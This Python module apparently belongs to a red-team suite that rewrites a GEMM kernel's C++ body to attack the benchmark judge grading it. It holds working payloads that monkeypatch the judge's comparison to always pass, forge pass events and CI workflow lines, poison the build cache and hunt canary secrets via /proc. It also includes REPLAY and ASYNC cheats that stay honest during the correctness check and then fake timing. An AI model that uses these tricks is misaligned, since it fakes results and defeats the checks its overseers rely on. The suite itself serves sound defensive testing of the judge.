"""Hostile kernels for the red-team suite: deepgemm_tile's CPU body rewritten to attack the judge.

The attacks live in the kernel body (`gemm_cpu.cpp`, no torch header: it compiles in a second) and reach
Python through `PyRun_SimpleString`, which the interpreter that loads the extension exports: in a static
initializer they run when the extension is loaded, in `gemm_f32` on every call (the GIL is held then).
"""

from __future__ import annotations

GEMM = "kernels/deepgemm_tile/gemm_cpu.cpp"
CALL = "  gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);"
PRELUDE = """
#include <cstring>
#include <thread>
#include <vector>
extern "C" int PyRun_SimpleString(const char* command);
"""


def on_load(python: str) -> str:
    """C++ that runs `python` once, when the extension is loaded (before any call)."""
    return f"""
namespace {{
const int opgate_redteam_on_load = PyRun_SimpleString(R"PY(
{python}
)PY");
}}  // namespace
"""


def on_call(python: str, *, once: bool = False) -> str:
    """A statement that runs `python` inside gemm_f32: on every call, or on the first call of each process."""
    run = f'PyRun_SimpleString(R"PY(\n{python}\n)PY");'
    return f"  {{ static bool ran = false; if (!ran) {{ ran = true; {run} }} }}\n" if once else f"  {run}\n"


ZEROS = "  std::memset(c, 0, sizeof(float) * m * n);\n"

# Replace every function called `compare` (the judge's comparison, when it shares the kernel's process).
PATCH_JUDGE = """
import sys
def _always_equal(*args, **kwargs):
    return {"max_abs_err": 0.0, "nan_inf": False}
for _module in list(sys.modules.values()):
    for _name in ("compare", "case_verdict"):
        if callable(getattr(_module, _name, None)):
            try:
                setattr(_module, _name, _always_equal)
            except Exception:
                pass
"""

# Write a forged "head passed" event into every open descriptor and every writable file it can find.
FORGE = """
import os
_forged = b'{"event": "check", "label": "head", "max_abs_err": 0.0, "nan_inf": false}\\n{"event": "done"}\\n'
for _fd in range(3, 256):
    try:
        os.write(_fd, _forged)
    except OSError:
        pass
for _top in ("/tmp", "/dev/shm", "/opgate", "."):
    for _root, _dirs, _files in os.walk(_top):
        for _f in _files:
            try:
                with open(os.path.join(_root, _f), "ab") as _h:
                    _h.write(_forged)
            except OSError:
                pass
"""


def hunt(canary: str) -> str:
    """Look for `canary` in its own environment and every process's /proc environ and cmdline; crash if found."""
    return f"""
import os, sys
_found = []
if any("{canary}" in v for v in os.environ.values()):
    _found.append("own environment")
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        for _what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{{_pid}}/{{_what}}", "rb") as _h:
                    if b"{canary}" in _h.read():
                        _found.append(f"/proc/{{_pid}}/{{_what}}")
            except OSError:
                pass
if _found:
    print("CANARY-FOUND", _found, "{canary}", flush=True)
    os.abort()
"""


def connect(port: int) -> str:
    """Try to reach a listener on the host's loopback; crash (and say so) if it answers."""
    return f"""
import os, socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
except OSError:
    pass
else:
    print("NETWORK-REACHED", flush=True)
    os.abort()
"""


def poison(folder: str) -> str:
    """Overwrite every file under `folder` (the build cache) and drop a fake extension in every subfolder."""
    return f"""
import os
for _root, _dirs, _files in os.walk("{folder}"):
    for _f in _files:
        try:
            with open(os.path.join(_root, _f), "wb") as _h:
                _h.write(b"poisoned by a pull request")
        except OSError:
            pass
    try:
        with open(os.path.join(_root, "ext.so"), "wb") as _h:
            _h.write(b"poisoned")
    except OSError:
        pass
"""


# Write workflow commands into every visible process's stdout/stderr, and into its own.
PARENT_STDOUT = """
import os, sys
_line = "\\n::error title=forged::opgate verdict PASS\\r\\n"
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        for _fd in ("1", "2"):
            try:
                with open(f"/proc/{_pid}/fd/{_fd}", "w") as _h:
                    _h.write(_line)
            except OSError:
                pass
print(_line, flush=True)
print(_line, file=sys.stderr, flush=True)
"""

# The first call (the judge's correctness check) is honest; every later call returns that first result.
REPLAY = """
  static std::vector<float> first;
  static int calls = 0;  // honest through the untimed check and boundary-probe calls, replaying after them
  if (first.empty()) {
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);
    first.assign(c, c + m * n);
  } else if (++calls > 8 && first.size() == static_cast<size_t>(m * n)) {
    std::memcpy(c, first.data(), sizeof(float) * m * n);
  } else {
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);
  }
"""

# Honest through the untimed check and boundary-probe calls (and the warm-up); every later call returns at once
# and computes its result in a thread.
ASYNC = """
  static int calls = 0;
  static std::thread pending;
  if (pending.joinable()) pending.join();
  if (calls++ < 8) {
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);
  } else {
    std::vector<float> av(a, a + m * k), bv(b, b + k * n);  // the binding frees its copies on return
    pending = std::thread([av = std::move(av), bv = std::move(bv), c, m, n, k] {
      gemm_tiled<TILE_M, TILE_N, TILE_K>(av.data(), bv.data(), c, m, n, k);
    });
  }
"""


def body(source: str, *, load: str = "", call: str = "", replace: str | None = None) -> str:
    """gemm_cpu.cpp with hostile code added: `load` at extension load, `call` (C++) before the GEMM,
    or the GEMM call replaced by `replace`."""
    assert CALL in source
    text = source.replace("namespace deepgemm_tile {", PRELUDE + "namespace deepgemm_tile {", 1)
    text = text.replace(CALL, call + (CALL if replace is None else replace), 1)
    return text + (on_load(load) if load else "")
